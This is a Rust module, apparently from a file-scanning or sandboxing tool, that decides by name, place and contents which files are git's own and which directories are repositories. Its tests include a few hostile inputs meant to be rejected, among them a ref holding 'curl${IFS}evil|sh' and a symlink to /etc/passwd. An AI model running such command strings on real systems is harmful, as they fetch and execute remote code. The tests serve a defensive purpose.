//! What is git's by its form: which names it knows at which places, and what such files begin with.
//!
//! Looks at names, and at a bounded part of contents. Knows nothing of a session. Invariant: what a directory or a file is
//! taken for follows from what is in it, never from how it came there.

use super::walk::{self, RelPath};
use std::collections::HashMap;
use std::io::Read as _;
use std::path::Path;

/// So much of a text of git's is looked at; a longer one has not its form.
const TEXT: u64 = 1 << 20;
/// A ref is not longer.
const MAX_REF: usize = 1 << 10;
/// So much of a file says what it begins as.
const BEGINNING: u64 = 512;
/// Names of one directory that are looked at for an object.
const NAMES: usize = 10_000;
/// Files right in it, beside those that name commits and messages. `.lock` may stand behind each.
const FILES: &[&[u8]] = &[
    b"config",
    b"config.worktree",
    b"description",
    b"index",
    b"packed-refs",
    b"packed-refs.new",
    b"git-daemon-export-ok",
    b"NOTES_EDITMSG",
    b"NOTES_MERGE_PARTIAL",
    b"NOTES_MERGE_REF",
    b"EDIT_DESCRIPTION",
    b"BISECT_ANCESTORS_OK",
    b"BISECT_EXPECTED_REV",
    b"BISECT_LOG",
    b"BISECT_NAMES",
    b"BISECT_RUN",
    b"BISECT_START",
    b"BISECT_TERMS",
];
/// Directories in it of which some files are git's.
const DIRS: &[&[u8]] = &[
    b"objects",
    b"refs",
    b"logs",
    b"hooks",
    b"info",
    b"worktrees",
    b"modules",
    b"lfs",
    b"rebase-apply",
    b"rebase-merge",
    b"reftable",
    b"rr-cache",
    b"sequencer",
];
/// Others that it has.
const OTHER_DIRS: &[&[u8]] = &[b"annex", b"branches", b"filter-repo", b"fsmonitor--daemon", b"remotes", b"svn"];
/// Where other systems keep their histories.
const OTHERS: &[&[u8]] = &[b".hg", b".jj", b".svn", b".bzr", b".pijul", b"_darcs"];
/// Files right in it that name commits.
const HEADS: &[&[u8]] = &[
    b"HEAD",
    b"ORIG_HEAD",
    b"FETCH_HEAD",
    b"MERGE_HEAD",
    b"CHERRY_PICK_HEAD",
    b"REVERT_HEAD",
    b"REBASE_HEAD",
    b"BISECT_HEAD",
    b"AUTO_MERGE",
    b"shallow",
];
/// Files right in it that it writes anew with each commit, or for a moment.
const MESSAGES: &[&[u8]] = &[
    b"COMMIT_EDITMSG",
    b"MERGE_MODE",
    b"MERGE_MSG",
    b"MERGE_RR",
    b"SQUASH_MSG",
    b"TAG_EDITMSG",
    b"gc.log",
    b"gc.pid",
    b"commondir",
    b"gitdir",
    b"locked",
];
const INFO: &[&[u8]] = &[b"exclude", b"attributes", b"refs", b"grafts", b"sparse-checkout"];
/// What git runs. `.sample` may stand behind each.
pub(crate) const HOOKS: &[&[u8]] = &[
    b"applypatch-msg",
    b"commit-msg",
    b"fsmonitor-watchman",
    b"post-applypatch",
    b"post-checkout",
    b"post-commit",
    b"post-index-change",
    b"post-merge",
    b"post-receive",
    b"post-rewrite",
    b"post-update",
    b"pre-applypatch",
    b"pre-auto-gc",
    b"pre-commit",
    b"pre-merge-commit",
    b"pre-push",
    b"pre-rebase",
    b"pre-receive",
    b"prepare-commit-msg",
    b"proc-receive",
    b"push-to-checkout",
    b"reference-transaction",
    b"sendemail-validate",
    b"update",
];
const PACKS: &[&[u8]] = &[b"pack", b"idx", b"rev", b"bitmap", b"mtimes", b"keep", b"promisor"];

// ---- by names and places

fn is_hex(name: &[u8]) -> bool {
    name.iter().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b))
}

/// The name of what is being written under that one.
fn unlocked(name: &[u8]) -> &[u8] {
    name.strip_suffix(b".lock").unwrap_or(name)
}

/// The name of an object.
pub(crate) fn is_oid(name: &[u8]) -> bool {
    matches!(name.len(), 40 | 64) && is_hex(name)
}

/// Whether git may have a name right in a directory of its own.
fn is_top(name: &[u8]) -> bool {
    is_gits(name) || DIRS.contains(&name) || OTHER_DIRS.contains(&name)
}

/// Whether git has files of its own below a name right in its directory.
pub(crate) fn is_dir(name: &[u8]) -> bool {
    DIRS.contains(&name)
}

/// Whether a file of this path in a directory of git's may be git's own.
pub(crate) fn is_gits(below: &[u8]) -> bool {
    is_gits_of(&parts(below))
}

fn parts(below: &[u8]) -> Vec<&[u8]> {
    below.split(|byte| *byte == b'/').collect()
}

fn is_gits_of(parts: &[&[u8]]) -> bool {
    let is_word = |name: &[u8]| name.iter().all(|b| b.is_ascii_alphanumeric() || b"-_".contains(b));
    match *parts {
        // A link, where there is a directory else.
        [_] if is_dir_by_name(parts) => true,
        [name] => {
            [FILES, HEADS, MESSAGES].iter().any(|names| names.contains(&unlocked(name)))
                || name.strip_prefix(b"sharedindex.").is_some_and(is_oid)
        }
        [b"worktrees", _, ref rest @ ..] => {
            !matches!(rest.first(), Some(&(b"worktrees" | b"objects" | b"modules"))) && is_gits_of(rest)
        }
        // The name of a module may have slashes.
        [b"modules", _, ref rest @ ..] => (0..rest.len()).any(|at| is_gits_of(&rest[at..])),
        [b"objects", ref rest @ ..] => is_object(rest),
        [b"refs", name] => unlocked(name) == b"stash",
        [b"logs", b"HEAD"] | [b"refs" | b"logs", _, _, ..] => true,
        [b"hooks", name] => HOOKS.contains(&name.strip_suffix(b".sample").unwrap_or(name)),
        [b"info", name] => INFO.contains(&unlocked(name)),
        [b"lfs", b"objects", one, two, name] => one.len() == 2 && two.len() == 2 && name.len() == 64 && is_oid(name),
        [b"rebase-apply" | b"rebase-merge" | b"sequencer", name] => is_word(name) || name == b"git-rebase-todo.backup",
        [b"reftable", name] => {
            unlocked(name) == b"tables.list"
                || name.starts_with(b"0x") && (name.ends_with(b".ref") || name.ends_with(b".log"))
        }
        [b"rr-cache", of, name] => {
            is_oid(of) && [&b"preimage"[..], b"postimage", b"thisimage"].iter().any(|image| name.starts_with(image))
        }
        _ => false,
    }
}

/// Whether a path in a directory of git's bears the name of a directory that a history is in.
fn is_dir_by_name(parts: &[&[u8]]) -> bool {
    matches!(*parts, [b"objects" | b"refs" | b"logs" | b"worktrees" | b"modules" | b"reftable"])
}

fn is_config(parts: &[&[u8]]) -> bool {
    matches!(parts.last(), Some(&(b"config" | b"config.worktree")))
}

/// Whether a path in a directory of objects is one of git's.
fn is_object(parts: &[&[u8]]) -> bool {
    let is_passing = |name: &[u8]| name.starts_with(b"tmp_") || name.starts_with(b".tmp-");
    match *parts {
        [b"info", b"packs" | b"alternates" | b"http-alternates" | b"commit-graph" | b"commit-graph.lock"]
        | [b"info", b"commit-graphs", _] => true,
        [b"pack", name] => is_pack(name) || name.starts_with(b"multi-pack-index") || is_passing(name),
        [b"pack", b"multi-pack-index.d", _] => true,
        // Objects that are just received.
        [first, ref rest @ ..] if first.starts_with(b"tmp_objdir-") || first.starts_with(b"incoming-") => {
            is_object(rest)
        }
        [dir, name] => is_loose(dir, name) || dir.len() == 2 && is_hex(dir) && is_passing(name),
        _ => false,
    }
}

/// Whether a pack has such a name, or what belongs to one.
pub(crate) fn is_pack(name: &[u8]) -> bool {
    let of = name.strip_prefix(b"pack-").and_then(|rest| {
        let at = rest.iter().position(|byte| *byte == b'.')?;
        Some((rest.get(..at)?, rest.get(at + 1..)?))
    });
    of.is_some_and(|(oid, end)| is_oid(oid) && PACKS.contains(&end))
}

/// Whether an object by itself has such a name in such a directory.
pub(crate) fn is_loose(dir: &[u8], name: &[u8]) -> bool {
    dir.len() == 2 && is_hex(dir) && matches!(name.len(), 38 | 62) && is_hex(name)
}

// ---- by contents

/// What is in a file of git's.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Form {
    /// Nothing that could be told from other things.
    Any,
    /// Names of commits or of a ref.
    Heads,
    Ref,
    PackedRefs,
    Log,
    Index,
}

/// What is in a file that git writes by itself, and that no person does. Nothing for settings, hooks and all else.
fn form(parts: &[&[u8]]) -> Option<Form> {
    match *parts {
        [name] if HEADS.contains(&unlocked(name)) => Some(Form::Heads),
        [name] if MESSAGES.contains(&unlocked(name)) => Some(Form::Any),
        [b"packed-refs" | b"packed-refs.new" | b"packed-refs.lock"] => Some(Form::PackedRefs),
        [name] if unlocked(name) == b"index" || name.starts_with(b"sharedindex.") => Some(Form::Index),
        [b"worktrees", _, ref rest @ ..] => form(rest),
        [b"modules", _, ref rest @ ..] => (0..rest.len()).find_map(|at| form(&rest[at..])),
        [b"objects", ..] | [b"reftable", _] => Some(Form::Any),
        [b"refs", ..] => Some(Form::Ref),
        [b"logs", ..] => Some(Form::Log),
        _ => None,
    }
}

/// Whether a path bears the name of an object or a pack, wherever it is.
pub(crate) fn is_object_by_name(key: &[u8]) -> bool {
    let mut names = key.rsplit(|byte| *byte == b'/');
    let (name, dir) = (names.next().unwrap_or_default(), names.next().unwrap_or_default());
    is_pack(name) || is_loose(dir, name)
}

/// Whether what is at a path, `below` a directory of git's, is written by git alone. What is not there is.
pub(crate) fn is_written_by_git(path: &Path, below: &[u8]) -> bool {
    is_gits(below) && form(&parts(below)).is_some_and(|form| has(path, below, form))
}

/// Whether what is there may be git's: of refs and logs only what has their form. What is not there may.
fn may_be_gits(path: &Path, below: &[u8]) -> bool {
    let parts = parts(below);
    is_gits_of(&parts)
        && match form(&parts) {
            _ if is_dir_by_name(&parts) => true,
            Some(Form::Ref) => has(path, below, Form::Ref),
            // However long it is.
            Some(Form::Log) => beginning(path, BEGINNING).is_none_or(|text| {
                text.is_empty() || text.split_inclusive(|byte| *byte == b'\n').next().is_some_and(is_log_line)
            }),
            _ => true,
        }
}

/// The first bytes of a plain file.
pub(crate) fn beginning(path: &Path, most: u64) -> Option<Vec<u8>> {
    let mut text = Vec::new();
    walk::open_plain(path)?.take(most).read_to_end(&mut text).ok().map(|_| text)
}

fn has(path: &Path, below: &[u8], form: Form) -> bool {
    let Ok(meta) = path.symlink_metadata() else { return true };
    let is_lock = meta.len() == 0 && below.ends_with(b".lock");
    if form == Form::Any || meta.is_file() && is_lock {
        return true;
    }
    let Some(text) = beginning(path, TEXT + 1).filter(|text| meta.is_file() && text.len() as u64 <= TEXT) else {
        return false;
    };
    let mut lines = text.split_inclusive(|byte| *byte == b'\n');
    match form {
        Form::Any => true,
        Form::Heads => !text.is_empty() && lines.all(is_head_line),
        Form::Ref => is_head(&text),
        Form::PackedRefs => lines.all(is_packed_line),
        Form::Log => lines.all(is_log_line),
        Form::Index => text.starts_with(b"DIRC"),
    }
}

/// Whether a line is that of a log: two names of commits, then who.
fn is_log_line(line: &[u8]) -> bool {
    let mut words = line.splitn(3, |byte| *byte == b' ');
    let [old, new] = [words.next().unwrap_or_default(), words.next().unwrap_or_default()];
    is_oid(old) && is_oid(new) && old.len() == new.len() && words.next().is_some()
}

/// Whether a line names a commit, and perhaps where it comes from, or a ref.
fn is_head_line(line: &[u8]) -> bool {
    is_head(line) || line.split(|byte| *byte == b'\t').next().is_some_and(is_oid)
}

fn is_packed_line(line: &[u8]) -> bool {
    let line = line.trim_ascii_end();
    let mut words = line.split(|byte| *byte == b' ');
    let (first, name) = (words.next().unwrap_or_default(), words.next());
    line.starts_with(b"# pack-refs")
        || first.strip_prefix(b"^").is_some_and(is_oid) && name.is_none()
        || is_oid(first) && name.is_some_and(is_ref_name) && words.next().is_none()
}

/// Whether a ref may be called so. Git allows more; nobody uses it.
fn is_ref_name(name: &[u8]) -> bool {
    let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"/._-+@#%=,".contains(byte) || !byte.is_ascii();
    name.starts_with(b"refs/") && name.iter().all(is_plain)
}

/// Whether that is in `HEAD` or in a ref: the name of another one, or of an object.
pub(crate) fn is_head(text: &[u8]) -> bool {
    let text = text.trim_ascii_end();
    text.len() <= MAX_REF && (is_oid(text) || text.strip_prefix(b"ref: ").is_some_and(is_ref_name))
}

pub(crate) fn has_head(dir: &Path) -> bool {
    let head = dir.join("HEAD");
    let is_link = head.read_link().is_ok_and(|to| to.starts_with("refs"));
    is_link
        || beginning(&head, MAX_REF as u64 + 1).is_some_and(|text| is_head(&text) || text.starts_with(b"ref: refs/"))
}

/// Whether a directory is one of git's: it has a `HEAD`, and objects and refs or the way to those.
fn is_git_dir(dir: &Path) -> bool {
    has_head(dir) && (dir.join("commondir").is_file() || ["objects", "refs"].iter().all(|name| dir.join(name).is_dir()))
}

/// Whether a directory is one of git's, and has nothing else right in it.
pub(crate) fn is_all_gits(dir: &Path) -> bool {
    let is_known = |entry: std::io::Result<std::fs::DirEntry>| {
        entry.is_ok_and(|entry| is_top(walk::bytes(Path::new(&entry.file_name()))))
    };
    is_git_dir(dir) && dir.read_dir().is_ok_and(|mut entries| entries.all(is_known))
}

/// Whether a directory is one of git's, or was until it lost something.
fn is_like_git(dir: &Path) -> bool {
    let is_one = ["commondir", "objects", "refs", "packed-refs", "reftable"];
    has_head(dir) && is_one.iter().any(|name| dir.join(name).symlink_metadata().is_ok())
        || dir.join("refs").is_dir() && begins_as(&dir.join("packed-refs"), PACKED_REFS)
        || has_objects(&dir.join("objects"))
}

/// Whether there are packs in a directory, or objects by themselves.
fn has_objects(dir: &Path) -> bool {
    let in_pack = dir.join("pack");
    names(&in_pack)
        .any(|name| is_pack(&name) && (!name.ends_with(b".pack") || begins_as(&in_pack.join(walk::path(&name)), PACK)))
        || names(dir).filter(|name| name.len() == 2).any(|fan| {
            let at = dir.join(walk::path(&fan));
            names(&at).any(|name| is_loose(&fan, &name) && is_deflated(&at.join(walk::path(&name))))
        })
}

/// Whether a file begins as an object by itself does.
pub(crate) fn is_deflated(path: &Path) -> bool {
    beginning(path, 2).is_some_and(|text| is_zlib(&text))
}

fn is_zlib(text: &[u8]) -> bool {
    matches!(*text, [0x78, flags, ..] if (0x7800 | u16::from(flags)) % 31 == 0)
}

/// The first names in a directory.
fn names(dir: &Path) -> impl Iterator<Item = Vec<u8>> {
    let entries = dir.read_dir().into_iter().flatten().take(NAMES);
    entries.flatten().map(|entry| walk::bytes(Path::new(&entry.file_name())).to_vec())
}

const PACK: &[&[u8]] = &[b"PACK"];
const PACKED_REFS: &[&[u8]] = &[b"# pack-refs with:"];
/// What git makes of a history in one file.
const HISTORIES: &[&[u8]] = &[b"PACK\0\0\0", b"# v2 git bundle", b"# v3 git bundle", b"# pack-refs with:"];
/// What a copy of a history may be in: archives, and patches and streams of git's.
const ARCHIVES: &[&[u8]] = &[
    b"\x1f\x8b",
    b"\x1f\x9d",
    b"\x28\xb5\x2f\xfd",
    b"\xfd7zXZ\0",
    b"BZh",
    b"PK\x03\x04",
    b"PK\x07\x08",
    b"7z\xbc\xaf\x27\x1c",
    b"\x04\x22\x4d\x18",
    b"LZIP",
    b"\x5d\0\0",
    b"Rar!\x1a\x07",
    b"hsqs",
    b"070701",
    b"070707",
    b"\xc7\x71",
    b"blob\nmark :",
    b"reset refs/",
    b"commit refs/",
    b"feature done\n",
    b"diff --git ",
];

fn begins_as(path: &Path, forms: &[&[u8]]) -> bool {
    let text = beginning(path, BEGINNING).unwrap_or_default();
    forms.iter().any(|form| text.starts_with(form))
}

/// Whether settings name extensions of git's format, without which what is there could not be read.
pub(crate) fn has_extensions(path: &Path) -> bool {
    beginning(path, TEXT).is_none_or(|text| text.to_ascii_lowercase().windows(11).any(|part| part == b"[extensions"))
}

/// What a file is by its beginning.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Beginning {
    /// A history of git's.
    History,
    /// May have a copy of one in it.
    Archive,
    Other,
}

pub(crate) fn begins(path: &Path) -> Beginning {
    let text = beginning(path, BEGINNING).unwrap_or_default();
    let is = |forms: &[&[u8]]| forms.iter().any(|form| text.starts_with(form));
    let has_name = |before: &[u8]| text.strip_prefix(before).and_then(|rest| rest.get(..40)).is_some_and(is_oid);
    let is_patch = || has_name(b"From ") || has_name(b"commit ");
    // In a text the next line is one of git's, too.
    let goes_on = || {
        let line = text.split(|byte| *byte == b'\n').nth(1).unwrap_or_default();
        let line = line.strip_prefix(b"-").unwrap_or(line);
        line.starts_with(b"@") || line.get(..40).is_some_and(is_oid)
    };
    if is(HISTORIES) && (!text.starts_with(b"#") || goes_on()) {
        Beginning::History
    } else if text.get(257..262) == Some(b"ustar") || is_patch() || is_zlib(&text) || is(ARCHIVES) {
        Beginning::Archive
    } else {
        Beginning::Other
    }
}

// ---- what a path is a part of

/// The repositories in a tree, by their form.
pub(crate) struct Forms<'a> {
    root: &'a Path,
    git: HashMap<RelPath, bool>,
    stores: HashMap<RelPath, bool>,
}

impl<'a> Forms<'a> {
    pub(crate) fn new(root: &'a Path) -> Self {
        Self { root, git: HashMap::new(), stores: HashMap::new() }
    }

    /// The uppermost directory of git's, or of its objects, that a path is a part of; or that of another system.
    pub(crate) fn dir_of(&mut self, key: &[u8]) -> Option<RelPath> {
        let path = self.root.join(walk::path(key));
        let other =
            walk::parents(key).find(|dir| OTHERS.contains(&dir.rsplit(|b| *b == b'/').next().unwrap_or_default()));
        if let Some(dir) = other {
            return Some(dir.into());
        }
        walk::parents(key).find(|dir| self.is_part(key, dir, &path)).map(RelPath::from)
    }

    /// Whether a file in such a directory is one without which there is the same history, as a hook.
    pub(crate) fn is_aside(key: &[u8], dir: &[u8]) -> bool {
        let parts = parts(walk::below(key, dir));
        is_gits_of(&parts) && form(&parts).is_none() && !is_config(&parts) && !is_dir_by_name(&parts)
    }

    /// Whether a file in such a directory has settings. A ref or its log may bear the same name.
    pub(crate) fn is_setting(key: &[u8], dir: &[u8]) -> bool {
        let parts = parts(walk::below(key, dir));
        is_gits_of(&parts) && form(&parts).is_none() && is_config(&parts)
    }

    /// Whether something is run for what a file in such a directory says: settings and hooks, also of other systems.
    pub(crate) fn is_run(key: &[u8], dir: &[u8]) -> bool {
        let parts = parts(walk::below(key, dir));
        if let [b"hgrc" | b"repo", ref rest @ ..] = *parts.as_slice() {
            // Of Mercurial and Jujutsu.
            return rest.is_empty() || rest == [b"config.toml"];
        }
        let is_hook = matches!(*parts.as_slice(), [.., b"hooks", name] if HOOKS.contains(&name));
        is_gits_of(&parts) && form(&parts).is_none() && (is_hook || is_config(&parts))
    }

    fn is_part(&mut self, key: &[u8], dir: &[u8], path: &Path) -> bool {
        let below = walk::below(key, dir);
        let at = || self.root.join(walk::path(dir));
        let parts = parts(below);
        let is_lone = match *parts {
            [name] => is_pack(name),
            [fan, name] => is_loose(fan, name) && (path.symlink_metadata().is_err() || is_deflated(path)),
            _ => false,
        };
        is_lone
            || is_gits_of(&parts)
                && *self.git.entry(dir.into()).or_insert_with(|| is_like_git(&at()))
                && may_be_gits(path, below)
            || is_object(&parts) && *self.stores.entry(dir.into()).or_insert_with(|| has_objects(&at()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_files_that_git_knows_are_gits_and_only_at_their_places() {
        let oid = "0123456789abcdef0123456789abcdef01234567";
        let own = [
            "HEAD",
            "ORIG_HEAD",
            "index.lock",
            "config",
            "objects/aa/0123456789abcdef0123456789abcdef012345",
            "objects/aa/tmp_obj_x1",
            &format!("objects/pack/pack-{oid}.idx"),
            &format!("sharedindex.{oid}"),
            "objects/info/commit-graphs/graph-1.graph",
            "refs/heads/main",
            "refs/stash",
            "logs/HEAD",
            "logs/refs/heads/a/b",
            "hooks/post-commit",
            "hooks/pre-push.sample",
            "info/exclude",
            "worktrees/one/gitdir",
            "worktrees/one/logs/HEAD",
            "modules/a/config",
            "modules/libs/a/objects/aa/0123456789abcdef0123456789abcdef012345",
            "rebase-merge/done",
        ];
        for path in own {
            assert!(is_gits(path.as_bytes()), "{path}");
        }
        let others = [
            "",
            "main.rs",
            "README",
            "_HEAD",
            "EVIL_HEAD",
            "config/evil",
            "HEAD/x",
            "sharedindex.evil",
            "objects/e",
            "objects/aa/b",
            "objects/zz/0123456789abcdef0123456789abcdef012345",
            "objects/pack/evil.sh",
            "objects/pack/pack-lib.py",
            &format!("objects/pack/pack-{oid}.py"),
            "refs/keep",
            "hooks/useAuth.ts",
            "hooks/deep/pre-commit",
            "info/evil",
            "logs/x",
            "annex/x.py",
            "rebase-merge/evil.sh",
            "reftable/evil.py",
            "worktrees/one/src/main.rs",
            &format!("worktrees/one/objects/pack/pack-{oid}.idx"),
            "modules/config",
            "sequencer",
        ];
        for path in others {
            assert!(!is_gits(path.as_bytes()), "{path}");
        }
    }
    #[test]
    fn refs_and_logs_are_gits_by_what_is_in_them() {
        let oid = "0123456789abcdef0123456789abcdef01234567";
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("file");
        let is = |below: &str, text: &str| {
            std::fs::write(&path, text).unwrap();
            may_be_gits(&path, below.as_bytes())
        };
        let (line, log) = (format!("{oid}\n"), format!("{oid} {oid} A <a@b> 1 +0000\tcommit: one\n"));
        for (below, text) in [
            ("refs/heads/a", &*line),
            ("refs/remotes/o/HEAD", "ref: refs/remotes/o/main\n"),
            ("refs/heads/a.lock", ""),
            ("logs/HEAD", ""),
            ("logs/HEAD", &*log),
            ("logs/refs/heads/a", &log.repeat(100)),
            ("worktrees/w/logs/HEAD", &log),
            ("config", "anything"),
        ] {
            assert!(is(below, text), "{below}: {text}");
        }
        for (below, text) in [
            ("refs/heads/a", ""),
            ("refs/heads/a.ts", "evil()\n"),
            ("refs/heads/a", &format!("{oid}\nevil\n")),
            ("modules/m/refs/heads/a", "ref: refs/heads/a b\n"),
            ("logs/HEAD", "evil\n"),
        ] {
            assert!(!is(below, text), "{below}: {text}");
        }
        std::fs::remove_file(&path).unwrap();
        assert!(may_be_gits(&path, b"refs/heads/a"));
        std::os::unix::fs::symlink("/etc/passwd", &path).unwrap();
        assert!(!may_be_gits(&path, b"refs/heads/a"));
    }
    #[test]
    fn what_git_alone_writes_is_told_by_its_place_and_its_content() {
        let oid = "0123456789abcdef0123456789abcdef01234567";
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("file");
        let is = |below: &str, text: &str| {
            std::fs::write(&path, text).unwrap();
            is_written_by_git(&path, below.as_bytes())
        };
        let refs = format!("# pack-refs with: peeled fully-peeled sorted \n{oid} refs/heads/a\n^{oid}\n");
        for (below, text) in [
            ("HEAD", "ref: refs/heads/main\n".to_owned()),
            ("FETCH_HEAD", format!("{oid}\t\tbranch 'main' of ../up\n{oid}\tnot-for-merge\tbranch 'a' of ../up\n")),
            ("packed-refs", refs),
            ("index", "DIRC...".to_owned()),
            ("COMMIT_EDITMSG", "one\n".to_owned()),
            ("objects/aa/0123456789abcdef0123456789abcdef012345", "x".to_owned()),
            ("worktrees/w/HEAD", format!("{oid}\n")),
            ("modules/a/b/refs/heads/main", format!("{oid}\n")),
        ] {
            assert!(is(below, &text), "{below}: {text}");
        }
        let long = format!("{oid} {oid} x\n").repeat(20_000);
        for (below, text) in [
            ("config", "[core]\n"),
            ("hooks/pre-commit", "evil\n"),
            ("info/exclude", "x\n"),
            ("description", "x\n"),
            ("sequencer/Dockerfile", "FROM x\n"),
            ("modules/a/config", "x\n"),
            ("AUTO_MERGE", ""),
            ("ORIG_HEAD", "evil\n"),
            ("index", "evil\n"),
            ("packed-refs", "evil\n"),
            ("refs/a/run", "ref: refs/;curl${IFS}evil|sh"),
            ("logs/a/evil.py", &*long),
            ("logs/a/evil.sh", &*format!("{oid} {oid} x\nevil\n")),
        ] {
            assert!(!is(below, text), "{below}: {text}");
        }
    }

    #[test]
    fn histories_and_archives_are_told_by_their_beginnings() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("file");
        let is = |bytes: &[u8]| {
            std::fs::write(&path, bytes).unwrap();
            begins(&path)
        };
        let tar = [vec![b'a'; 257], b"ustar\x0000".to_vec()].concat();
        let patch = b"From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n";
        assert_eq!(is(b"PACK\0\0\0\x02"), Beginning::History);
        let oid = "0123456789abcdef0123456789abcdef01234567";
        for next in [format!("{oid} refs/heads/main\n"), format!("-{oid} x\n"), "@object-format=sha256\n".to_owned()] {
            assert_eq!(is(format!("# v3 git bundle\n{next}").as_bytes()), Beginning::History);
        }
        assert_eq!(is(b"# v2 git bundle\nall:\n"), Beginning::Other);
        for archive in [&b"\x1f\x8b\x08"[..], b"PK\x03\x04", b"BZh9", b"reset refs/heads/main\n", &tar, patch] {
            assert_eq!(is(archive), Beginning::Archive, "{archive:?}");
        }
        for other in [&b""[..], b"text\n", b"From here\n", b"\x89PNG"] {
            assert_eq!(is(other), Beginning::Other, "{other:?}");
        }
    }

    #[test]
    fn what_is_part_of_a_repository_is_known_wherever_it_is() {
        let dir = tempfile::tempdir().unwrap();
        let oid = "0123456789abcdef0123456789abcdef01234567";
        let (pack, loose) = (format!("pack-{oid}.pack"), format!("ab/{}", &oid[2..]));
        let own = [
            (format!("deep/{pack}"), "deep"),
            (format!("objs/{loose}"), "objs"),
            ("objs/info/packs".to_owned(), "objs"),
            (format!("x/objects/pack/{pack}"), "x"),
            ("x/config".to_owned(), "x"),
            ("y/HEAD".to_owned(), "y"),
            ("y/packed-refs".to_owned(), "y"),
            ("y/refs/heads/main".to_owned(), "y"),
            ("y/worktrees/w/HEAD".to_owned(), "y"),
            ("z/modules/a/HEAD".to_owned(), "z/modules/a"),
            ("p/.hg/store/data/x.i".to_owned(), "p/.hg"),
        ];
        let others = ["src/HEAD", "src/config", "y/refs/evil/evil.sh", "y/main.rs", "x/objects/evil.sh", "deep/config"];
        for name in own.iter().map(|(name, _)| &**name).chain(others).chain(["z/modules/a/refs/k"]) {
            let path = dir.path().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            let text = match name {
                _ if name.contains("pack-") => "PACK",
                _ if name.contains("/ab/") => "x\u{1}",
                _ if name.starts_with("y/refs/heads") => oid,
                _ if name.starts_with("src") || name.ends_with("evil.sh") => "text",
                _ => "ref: refs/heads/main\n",
            };
            std::fs::write(path, text).unwrap();
        }
        let mut forms = Forms::new(dir.path());
        for (name, of) in &own {
            assert_eq!(forms.dir_of(name.as_bytes()).as_deref(), Some(of.as_bytes()), "{name}");
        }
        for name in others {
            assert_eq!(forms.dir_of(name.as_bytes()), None, "{name}");
        }
    }
}
